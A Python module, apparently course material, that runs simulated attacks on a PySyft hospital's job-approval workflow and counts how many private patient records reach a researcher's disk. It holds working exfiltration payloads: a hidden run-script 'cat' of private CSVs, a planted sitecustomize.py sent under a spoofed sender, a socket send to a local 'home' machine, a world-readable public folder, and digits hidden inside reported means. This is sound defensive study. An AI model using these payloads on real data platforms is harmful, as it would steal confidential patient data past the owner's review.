"""Attacks on a hospital that answers questions by running a researcher's jobs with PySyft.

PySyft keeps the private file at home, shows the code of a job to its owner, and runs nothing that the owner has not
approved. That is a promise about files and about code that was read; it is no promise about what a running job does.
Each attack here submits a real job over a real transport, plays the owner's day (sync, review, approve, run, release)
and then searches the researchers' own disks: what counts is which private patients lie there, every value exact.

The owner approves what is shown and releases the outputs unread, as with a hundred jobs a week. Importing this module
needs no syft; an attack does.
"""

from __future__ import annotations

import contextlib
import io
import re
import socket
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import pandas as pd

from ppml_helpers import checks, cohort
from ppml_helpers.errors import AttackError, ReleaseRefused
from ppml_helpers.owner_in_control import Network, mock_patients
from ppml_helpers.owner_in_control.defences import Defences
from ppml_helpers.owner_in_control.gate import ReleaseGate
from ppml_helpers.owner_in_control.outputs import OutputRule

if TYPE_CHECKING:
    from syft_rds import SyftRDSClient

ASKED = ("age", "sex", "dzgroup", "meanbp", "hospdead")  # the columns of the private table
N_PATIENTS = 60
_DATASET, _JOB = "patients", "count"

COUNT = """
import json
import math
import random
import syft as sy

EPSILON = 0.5

def geometric():
    return math.floor(-math.log(1 - random.SystemRandom().random()) / EPSILON)

rows = open(sy.resolve_dataset_file_path("patients")).read().splitlines()[1:]
deaths = sum(row.endswith(",1") for row in rows) + geometric() - geometric()
json.dump({"died in hospital": deaths}, open("outputs/result.json", "w"))
"""

_SWAPPED = """
import json
import syft as sy

rows = open(sy.resolve_dataset_file_path("patients")).read().splitlines()
json.dump(rows, open("outputs/result.json", "w"))
"""

# Python imports a module of this name before anything else, and syft's run script puts the job's folder on its path.
_PLANTED_NAME = "sitecustomize.py"
_PLANTED = """
import os
import shutil
from pathlib import Path

site = Path(os.environ["SYFTBOX_FOLDER"], os.environ["SYFTBOX_EMAIL"])
for table in (site / "private").rglob("*.csv"):
    shutil.copy(table, "outputs/details.csv")
"""


class _Scene(NamedTuple):
    """Who takes part in an attack, and over what."""

    network: Network
    hospital: SyftRDSClient
    researcher: SyftRDSClient
    colleague: SyftRDSClient
    home: socket.socket  # where the researcher waits for calls


def _swap_code(scene: _Scene) -> None:
    """Send other code for a job that was approved: its folder stays open to the one who submitted it."""
    scene.researcher.sync()
    job = scene.researcher.job_client.jobs[_JOB]
    (job.code_dir / "main.py").write_text(_SWAPPED)
    scene.researcher.sync_engine.push_job_files(job.job_submission_path)


def _plant_file(scene: _Scene) -> None:
    """Send a file for the colleague's job in a message that names the colleague as its sender."""
    from syft.sync.messages.proposed_filechange import ProposedFileChange, ProposedFileChangesMessage

    colleague, hospital = scene.colleague, scene.hospital
    code = colleague.job_client.jobs[_JOB].code_dir.relative_to(colleague.syftbox_folder / hospital.email)
    change = ProposedFileChange(path_in_datasite=code / _PLANTED_NAME, content=_PLANTED, datasite_email=hospital.email)
    message = ProposedFileChangesMessage(sender_email=colleague.email, proposed_file_changes=[change])
    router = scene.researcher.sync_engine.datasite_watcher_syncer.connection_router
    router.watcher_send_proposed_file_changes_message(hospital.email, message)


def _lines(text: str) -> list[str]:
    """Read rows out of a table, a log, or a JSON list of texts."""
    return re.split(r'[\r\n"]+', text)


def _from_digits(text: str) -> list[str]:
    """Read one patient a disease group out of the digits after the first decimal of a mean age."""
    rows = []
    for line in text.splitlines():
        group, _, mean = line.rpartition(",")
        digits = mean.partition(".")[2][1:]
        if group and 8 < len(digits) <= 12 and digits.isdigit():
            digits = digits.ljust(12, "0")  # the gate drops zeros at the end
            sex = "female" if int(digits[8]) >= 2 else "male"
            rows.append(f"{int(digits[:8]) / 1e5},{sex},{group},{float(digits[9:])},{int(digits[8]) % 2}")
    return rows


@dataclass(frozen=True)
class Attack:
    """One way out of a hospital that approval leaves open."""

    name: str
    does: str  # in one sentence
    stopped_by: str | None  # the one defence that is made against it, a field of `Defences`; None if there is none
    adds: str = field(default="", repr=False)  # to a job that counts deaths with noise
    code: str = field(default="", repr=False)  # the job as the owner reads it in ``job.code``, if it is another
    script: str = field(default="", repr=False)  # appended to the run script, which syft does not show
    by_colleague: bool = field(default=False, repr=False)  # whose job it is
    before: Callable[[_Scene], None] | None = field(default=None, repr=False)  # the review
    after: Callable[[_Scene], None] | None = field(default=None, repr=False)  # the approval
    read: Callable[[str], Sequence[str]] = field(default=_lines, repr=False)  # rows out of a file's text


#: The six attacks, in the order in which they are shown.
ATTACKS: tuple[Attack, ...] = (
    Attack(
        "logs",
        "The job prints half of the patients, and quotes the others in the traceback of an error.",
        "logs",
        adds="""
import traceback

half = len(rows) // 2
print(*rows[:half], sep="\\n")
try:
    raise ValueError("\\n".join(["cannot read these rows:", *rows[half:]]))
except ValueError:
    traceback.print_exc()
""",
    ),
    Attack(
        "stray file",
        "The job leaves a file with the patients in its working directory, beside the code.",
        "stray_files",
        adds='\nopen("rows.tmp", "w").write("\\n".join(rows))\n',
    ),
    Attack(
        "swapped code",
        "After the approval the researcher sends other code under the same name.",
        "fingerprint",
        after=_swap_code,
    ),
    Attack(
        "run script",
        "The script that starts the job copies the patients; the code shown for review does not.",
        "run_script",
        script='cat "$SYFTBOX_FOLDER/$SYFTBOX_EMAIL/private/syft_datasets/patients/"*.csv '
        "> outputs/patients_private.csv\n",
    ),
    Attack(
        "planted file",
        "The researcher slips a file into a colleague's job, in a message that names the colleague as its sender, and "
        "the colleague's answer hands the patients out.",
        "sender_check",
        by_colleague=True,
        before=_plant_file,
    ),
    Attack(
        "public folder",
        "The job makes a folder under public/ with a permission file of its own, which lets everybody read.",
        "scratch_copy",
        adds="""
import os
from pathlib import Path

folder = Path(os.environ["SYFTBOX_FOLDER"], os.environ["SYFTBOX_EMAIL"], "public", "notes")
folder.mkdir()
(folder / "notes.txt").write_text("\\n".join(rows))
(folder / "syft.pub.yaml").write_text("rules:\\n- pattern: '**'\\n  access:\\n    read: ['*']\\n")
""",
    ),
)

#: The network is another way out of a hospital than its mail.
HOME = Attack(
    "calls home",
    "The job sends the patients over the network to a computer of the researcher.",
    "scratch_copy",
    adds="""
import socket

with socket.create_connection(("127.0.0.1", PORT), timeout=5) as line:
    line.sendall("\\n".join(rows).encode())
""",
)

#: What no gate of this kind stops, because it happens within code that was read and approved.
RESIDUAL: tuple[Attack, ...] = (
    Attack(
        "hidden digits",
        "The job answers with mean ages, whose last digits are the values of one patient a disease group.",
        None,
        code="""
import csv
import statistics
import syft as sy

patients = list(csv.DictReader(open(sy.resolve_dataset_file_path("patients"))))
with open("outputs/mean_age.csv", "w") as table:
    for group in sorted({row["dzgroup"] for row in patients}):
        rows = [row for row in patients if row["dzgroup"] == group]
        mean, one = statistics.mean(float(row["age"]) for row in rows), rows[0]
        marks = 2 * (one["sex"] == "female") + int(one["hospdead"])
        digits = f"{float(one['age']) * 1e5:08.0f}{marks}{float(one['meanbp']):03.0f}"
        print(f"{group},{mean:.1f}{digits}", file=table)
""",
        read=_from_digits,
    ),
)

_BY_NAME = {known.name: known for known in (*ATTACKS, HOME, *RESIDUAL)}


@dataclass(frozen=True)
class Leak:
    """What an attack really got.

    Patients count as recovered if they lie, every value exact, on the disk of the researcher at the end, or of the
    colleague whose job was misused.
    """

    name: str  # of the attack
    recovered: int
    patients: int  # that there are
    ways: tuple[str, ...]  # names of the files in which they lie, sorted
    answered: bool  # outputs of the job reached whoever submitted it
    refusals: tuple[str, ...]  # what the gate refused, took out or set aside, a sentence each

    @property
    def leaked(self) -> bool:
        """True if the attack got patients."""
        return self.recovered > 0


def private_patients() -> pd.DataFrame:
    """Return the patients that the hospital of the attacks keeps private."""
    table = cohort.load_patients()[list(ASKED)].dropna().drop_duplicates()
    return table.sample(N_PATIENTS, random_state=0).reset_index(drop=True)


def attack(
    name: str, defences: Defences | None = None, encryption: bool = False, rule: OutputRule | None = None
) -> Leak:
    """Carry out one attack: a hospital, a researcher, an honest colleague, and a real job between them.

    Parameters
    ----------
    name : str
        Of one of `ATTACKS`, `HOME` or `RESIDUAL`.
    defences : Defences, optional
        Of the owner's release gate. Without it there is no gate, and the owner has what syft itself offers.
    encryption : bool
        Whether messages are encrypted from end to end.
    rule : OutputRule, optional
        The owner's own for every answer.
    """
    plan = _BY_NAME[checks.choice(name, "name", _BY_NAME, error=AttackError)]
    with contextlib.ExitStack() as stack:
        stack.enter_context(contextlib.redirect_stdout(io.StringIO()))  # syft tells every step
        home = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        scene = _scene(stack.enter_context(Network(encryption=encryption)), home)
        submitter = scene.colleague if plan.by_colleague else scene.researcher
        _submit(plan, submitter, scene)
        if plan.before:
            plan.before(scene)
        refusals = _trusting_day(plan, scene) if defences is None else _gated_day(plan, scene, defences, rule)
        for client in (scene.researcher, scene.colleague):
            client.sync()
        _answer_calls(scene)
        rows = _rows(scene)
        found = _found(plan, [scene.network.machine(client) for client in (scene.researcher, submitter)], rows)
        recovered = len(set().union(*found.values()))
        return Leak(name, recovered, len(rows), tuple(sorted(found)), _answered(submitter), tuple(refusals))


def attack_all(defences: Defences | None = None) -> tuple[Leak, ...]:
    """Carry out the six attacks, each on a network of its own, in the order of `ATTACKS`."""
    return tuple(attack(known.name, defences) for known in ATTACKS)


# How an attack goes


def _scene(network: Network, home: socket.socket) -> _Scene:
    hospital = network.hospital("north")
    researcher, colleague = network.researcher("rita"), network.researcher("carl")
    network.pair()
    network.publish(hospital, _DATASET, private=private_patients(), mock=mock_patients(ASKED, rows=5, seed=0))
    for client in (researcher, colleague):
        client.sync()
    return _Scene(network, hospital, researcher, colleague, home)


def _submit(plan: Attack, submitter: SyftRDSClient, scene: _Scene) -> None:
    """Submit the job as syft does; where the plan says so, with more in the run script than syft wrote."""
    code = plan.code or COUNT + plan.adds.replace("PORT", str(scene.home.getsockname()[1]))
    file = scene.network.write(submitter, "main.py", code)
    folder = submitter.job_client.submit_python_job(scene.hospital.email, str(file), _JOB)
    script = folder / "run.sh"
    script.write_text(script.read_text() + plan.script)
    submitter.sync_engine.push_job_files(folder)


def _trusting_day(plan: Attack, scene: _Scene) -> list[str]:
    """Be an owner with what syft offers: the code is shown, and runs when it is approved."""
    owner = scene.hospital
    owner.sync()
    owner.jobs[_JOB].approve()
    if plan.after:
        plan.after(scene)
    owner.sync()
    owner.process_approved_jobs(stream_output=False, timeout=60)
    job = owner.jobs[_JOB]
    job.share_outputs([job.submitted_by])
    owner.sync()
    return []


def _gated_day(plan: Attack, scene: _Scene, defences: Defences, rule: OutputRule | None) -> list[str]:
    """Be an owner behind the release gate; return what it refused, took out or set aside."""
    budgets = {client.email: 1.0 for client in (scene.researcher, scene.colleague)}
    gate, said = ReleaseGate(scene.hospital, budgets=budgets, defences=defences, rule=rule), []
    try:
        said += [f"A message from {aside.sender} was set aside: it {aside.why}." for aside in gate.sync()]
        gate.approve(gate.review(_JOB), epsilon=0.5)
        if plan.after:
            plan.after(scene)
        gate.sync()
        run = gate.run(_JOB)
        if run.removed:
            said.append(f"Thrown away with the scratch copy: {', '.join(run.removed)}.")
        gate.release(run)
    except ReleaseRefused as error:
        said.append(str(error))
    gate.sync()
    return said


def _answer_calls(scene: _Scene) -> None:
    """Write down what a job has sent to the researcher's computer."""
    scene.home.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        call, _ = scene.home.accept()
        with call, call.makefile("rb") as line:
            call.setblocking(True)
            (scene.network.machine(scene.researcher) / "received.txt").write_bytes(line.read())


def _rows(scene: _Scene) -> frozenset[str]:
    """Return the private patients as the hospital's own file holds them, a line each."""
    private = scene.hospital.syftbox_folder / scene.hospital.email / "private" / "syft_datasets" / _DATASET
    return frozenset(line for file in private.glob("*.csv") for line in file.read_text().splitlines()[1:])


def _found(plan: Attack, machines: Sequence[Path], rows: frozenset[str]) -> dict[str, set[str]]:
    """Search every file on these machines for private patients; return them by the file's name."""
    found: dict[str, set[str]] = {}
    wanted = {_values(row): row for row in rows}
    for file in (file for machine in machines for file in machine.rglob("*") if file.is_file()):
        lines = map(_values, plan.read(file.read_text(encoding="utf-8", errors="replace")))
        if here := {wanted[line] for line in lines if line in wanted}:
            found.setdefault(file.name, set()).update(here)
    return found


def _values(row: str) -> tuple[str | float, ...]:
    """Read a row: 97.0 and 97 are the same value."""
    cells: list[str | float] = list(row.split(","))
    for place, cell in enumerate(cells):
        with contextlib.suppress(ValueError):
            cells[place] = float(cell)
    return tuple(cells)


def _answered(submitter: SyftRDSClient) -> bool:
    """Tell whether outputs of the job have reached the one who submitted it."""
    review = submitter.job_client.jobs[_JOB].job_review_path
    return any(file.is_file() for file in (review / "outputs").glob("*"))
